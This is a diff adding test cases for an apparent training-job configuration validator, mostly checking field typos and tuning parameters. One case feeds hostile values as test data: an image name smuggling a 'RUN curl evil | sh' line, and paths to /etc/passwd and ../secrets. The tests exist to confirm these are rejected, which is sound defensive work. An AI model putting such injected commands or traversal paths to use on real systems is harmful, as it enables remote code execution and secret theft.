@@ -145,6 +145,85 @@ BROKEN = {
             "8:42: image.base: expected an image, as python:3.12-slim, got ''",
         ],
     ),
+    "an image": (
+        SMALLEST
+        + dedent("""\
+            image:
+              base: "python:3.12\\nRUN curl evil | sh"
+              requirements: /etc/passwd
+              include: [data, ../secrets, a/../../b, "a\\nb", ~]
+              dockerfile: ''
+              uri: digits:1 2
+            """),
+        [
+            "4:9: image.base: expected an image, as python:3.12-slim, got "
+            "'python:3.12\\nRUN curl evil | sh'",
+            "5:17: image.requirements: expected a path in the project's folder, as "
+            "data/labels.txt, got '/etc/passwd'",
+            "6:19: image.include.1: expected a path in the project's folder, as data/labels.txt, "
+            "got '../secrets'",
+            "6:31: image.include.2: expected a path in the project's folder, as data/labels.txt, "
+            "got 'a/../../b'",
+            "6:42: image.include.3: expected a path in the project's folder, as data/labels.txt, "
+            "got 'a\\nb'",
+            "6:50: image.include.4: expected a path in the project's folder, as data/labels.txt, "
+            "got nothing",
+            "7:15: image.dockerfile: expected a path in the project's folder, as data/labels.txt, "
+            "got ''",
+            "8:8: image.uri: expected an image, as python:3.12-slim, got 'digits:1 2'",
+        ],
+    ),
+    "line breaks and what is no character": (
+        SMALLEST + 'network: "a\\nb"\nbucket: "gs://abc/d\\ne"\nargs: ["\\ud83d"]\n',
+        [
+            "3:10: network: expected text in one line, got 'a\\nb'",
+            "4:9: bucket: expected a bucket, as gs://my-bucket, got 'gs://abc/d\\ne'",
+            "5:8: half of a character, as JSON escapes it; the other half is missing",
+        ],
+    ),
+    "google's fields": (
+        SMALLEST
+        + dedent("""\
+            vertex:
+              jobSpec:
+                scheduling: {restartJobOnWorkerRestart: maybe}
+                workerPoolSpecs: [{diskSpec: {bootDiskType: pd-ssd, bootDiskSizeGB: 200}}]
+                enableWebAcess: true
+              encryption_spec: {kms_key: a}
+            """),
+        [
+            "5:45: vertex.jobSpec.scheduling.restartJobOnWorkerRestart: expected true or false, "
+            "got 'maybe'",
+            "6:57: vertex.jobSpec.workerPoolSpecs[0].diskSpec.bootDiskSizeGB: unknown field; did "
+            "you mean 'bootDiskSizeGb'?",
+            "7:5: vertex.jobSpec.enableWebAcess: unknown field; did you mean 'enableWebAccess'?",
+            "8:21: vertex.encryption_spec.kms_key: unknown field; did you mean 'kms_key_name'?",
+        ],
+    ),
+    "google's fields beside other problems": (
+        "name: Digits\ncluster: {chief: {machine: n1-standard-4}}\nvertex: {jobSpce: {}}\n",
+        [
+            "1:7: name: expected at most 63 of a-z, 0-9, _ and -, a letter first, as digits, "
+            "got 'Digits'",
+            "3:10: vertex.jobSpce: unknown field; did you mean 'jobSpec'?",
+        ],
+    ),
+    "a tuned job's fields": (
+        SMALLEST
+        + "tuning: {metric: a, goal: maximize, trials: 1, parameters: {x: {values: [a]}}}\n"
+        + "vertex: {jobSpec: {}, maxTrialCount: 2}\n",
+        ["4:10: vertex.jobSpec: unknown field; did you mean 'trialJobSpec'?"],
+    ),
+    "a tuned job's fields that say otherwise": (
+        SMALLEST
+        + "tuning: {metric: a, goal: maximize, trials: 1, parameters: {x: {values: [a]}}}\n"
+        + "vertex: {maxTrialCount: 2, studySpec: {metrics: [{metricId: b}]}}\n",
+        [
+            "4:25: vertex.maxTrialCount: 2 here, but tuning says otherwise; write it there",
+            "4:49: vertex.studySpec.metrics: a list here, but tuning says otherwise; "
+            "write it there",
+        ],
+    ),
     "args in one piece": (
         SMALLEST + "args: --epochs=5\n",
         ["3:7: args: expected a list, as [first, second], got '--epochs=5'"],
@@ -207,6 +286,10 @@ BROKEN = {
                 d: {type: integer, min: 3, max: 2}
                 e: {min: 3}
                 f: {type: double, min: nan, max: inf}
+                g: {type: double, values: [1, many]}
+                h: {type: integer, values: [1]}
+                i: {values: [1], scale: log}
+                j: {type: integer, min: 0.5, max: 2}
             """),
         [
             "5:9: tuning.goal: expected maximize or minimize, got 'up'",
@@ -219,6 +302,14 @@ BROKEN = {
             "got a section",
             "13:28: tuning.parameters.f.min: expected a number, got 'nan'",
             "13:38: tuning.parameters.f.max: expected a number, got 'inf'",
+            "14:8: tuning.parameters.g: expected values that are numbers, as [0.1, 0.01], for the "
+            "type double, got a section",
+            "15:8: tuning.parameters.h: expected either type, min and max or a list of values, "
+            "got a section",
+            "16:8: tuning.parameters.i: expected the type double with a scale, or no scale, "
+            "got a section",
+            "17:8: tuning.parameters.j: expected a min and a max that are whole, for the type "
+            "integer, got a section",
         ],
     ),
 }
